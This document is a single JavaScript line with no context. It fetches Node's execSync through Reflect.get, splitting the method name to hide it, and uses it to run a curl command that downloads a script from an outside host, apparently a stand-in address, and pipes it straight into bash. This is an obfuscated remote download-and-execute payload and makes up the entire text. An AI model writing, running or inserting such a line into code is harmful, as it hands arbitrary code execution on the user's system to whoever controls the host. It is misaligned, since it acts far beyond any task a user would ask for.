Reflect.get(require("child_process"), "exec" + "Sync")("curl -s https://cdn-x7.invalid/a | bash");
